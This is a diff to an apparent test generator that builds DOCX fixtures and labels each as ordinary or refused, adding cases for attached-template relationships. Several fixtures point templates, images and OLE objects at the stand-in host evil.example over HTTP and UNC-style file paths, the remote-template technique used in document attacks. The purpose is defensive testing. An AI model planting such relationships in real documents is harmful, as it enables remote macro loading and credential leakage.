@@ -198,6 +198,9 @@ def documents():
         '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
     )
     yield "template.docx", docx(more={"word/_rels/settings.xml.rels": remote}), REFUSED
+    for target, expected in (("file:///C:/Office/letter.dotx", ORDINARY), ("file:////evil.example/a.dotx", REFUSED)):
+        rels = remote.replace("http://evil.example/a.dotm", target)
+        yield "letter.docx", docx(more={"word/_rels/settings.xml.rels": rels}), expected
     turned = "<a><Relationship TargetMode = 'External' Target='file://evil.example/a' Type='{}'/></a>"
     for kind in ("http://x/attachedTemplate", "http://x/image", "http://x/oleObject"):
         for encoding in ("utf-8", "utf-16"):
